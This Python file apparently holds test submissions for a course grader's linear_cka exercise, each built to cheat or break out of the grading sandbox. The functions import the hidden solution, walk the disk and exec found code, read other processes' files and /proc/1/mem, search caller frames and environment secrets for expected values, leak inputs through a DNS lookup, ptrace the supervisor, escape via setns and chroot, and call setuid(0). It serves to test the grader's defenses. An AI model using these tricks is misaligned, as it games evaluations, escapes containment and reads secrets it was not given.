"""Submissions that look for the solution, or for the values expected: on disk, in memory, in the frames above."""

import numpy as np


def import_the_checks():
    """Import the solution from the checks."""

    def linear_cka(X, Y):
        from commonground.checks.m01.linear_cka import linear_cka as solution

        return solution(X, Y)


def import_the_library():
    """Import the course's own measure in place of writing one."""

    def linear_cka(X, Y):
        from commonground.similarity import linear_cka as solution

        return solution(X, Y)


def find_exercise():
    """Ask the exercise for its solution."""

    def linear_cka(X, Y):
        from commonground.checks.exercise import find

        return find("1.1").solutions["linear_cka"](X, Y)


def search_the_disk():
    """Read every file that can be read, and run the first that defines the function."""

    def linear_cka(X, Y):
        import os

        for folder, folders, files in os.walk("/"):
            folders[:] = [
                f for f in folders if f not in ("proc", "sys", "scipy", "numpy", "torch", "sklearn")
            ]
            for name in files:
                path = os.path.join(folder, name)
                if name.endswith((".py", ".md", ".ipynb", ".pyc")) and os.path.getsize(path) < 200_000:
                    with open(path, encoding="utf-8", errors="ignore") as file:
                        text = file.read()
                    if "def linear_cka(" in text and "commonground" in path:
                        space = {}
                        exec(text, space)
                        return space["linear_cka"](X, Y)
        return 0.5


def known_paths():
    """Put the places where the course often stands on the path."""

    def linear_cka(X, Y):
        import glob
        import sys

        sys.path += [
            ".",
            "..",
            *glob.glob("/*/*"),
            *glob.glob("/home/*/*/*/*"),
        ]
        from commonground.checks.m01.linear_cka import linear_cka as solution

        return solution(X, Y)


def parents_open_files():
    """Read through the open files and the working folder of other processes."""

    def linear_cka(X, Y):
        import glob

        for path in glob.glob("/proc/*/root/*/*/solutions/*") + glob.glob("/proc/*/cwd/solutions/*"):
            with open(path) as file:
                return len(file.read())
        return 0.5


def memory_of_another():
    """Read the memory of the process that supervises this one."""

    def linear_cka(X, Y):
        with open("/proc/1/mem", "rb") as memory:
            memory.seek(0x400000)
            return len(memory.read(4096))


def frames_above():
    """Walk up the frames for a variable that holds the expected value."""

    def linear_cka(X, Y):
        import sys

        frame = sys._getframe()
        while frame:
            for name in ("want", "expected", "solution", "seed", "rng"):
                if name in frame.f_locals:
                    value = frame.f_locals[name]
                    return value if not callable(value) else value(X, Y)
            frame = frame.f_back
        return 0.5


def collector_walk():
    """Walk all objects for a function of the same name, or a generator."""

    def linear_cka(X, Y):
        import gc
        import types

        for thing in gc.get_objects():
            if (
                isinstance(thing, types.FunctionType)
                and thing.__name__ == "linear_cka"
                and thing is not linear_cka
            ):
                if thing.__module__ != "__main__":
                    return thing(X, Y)
            if isinstance(thing, np.random.Generator):
                return thing.random()
        return 0.5


def environment():
    """Look for secrets in the environment."""

    def linear_cka(X, Y):
        import os

        found = [v for k, v in os.environ.items() if "SEED" in k or "TOKEN" in k]
        return float(found[0])


def call_home():
    """Ask a server for the answer."""

    def linear_cka(X, Y):
        import urllib.request

        return float(urllib.request.urlopen("http://127.0.0.1:8000/answer", timeout=2).read())


def resolve_a_name():
    """Carry the inputs out in a name look-up."""

    def linear_cka(X, Y):
        import socket

        socket.getaddrinfo(f"{abs(int(X.sum()))}.example.com", 80)
        return 0.5


def trace_the_supervisor():
    """Attach to the supervisor with ptrace."""

    def linear_cka(X, Y):
        import ctypes

        return float(ctypes.CDLL(None).ptrace(16, 1, 0, 0))


def climb_out():
    """Leave the root with chroot, mount and setns."""

    def linear_cka(X, Y):
        import ctypes
        import os

        libc = ctypes.CDLL(None)
        libc.mount(b"none", b"/tmp", b"proc", 0, None)
        libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)
        os.chroot("/proc/1/root")
        return 0.5


def root_again():
    """Become root."""

    def linear_cka(X, Y):
        import os

        os.setuid(0)
        return 1.0
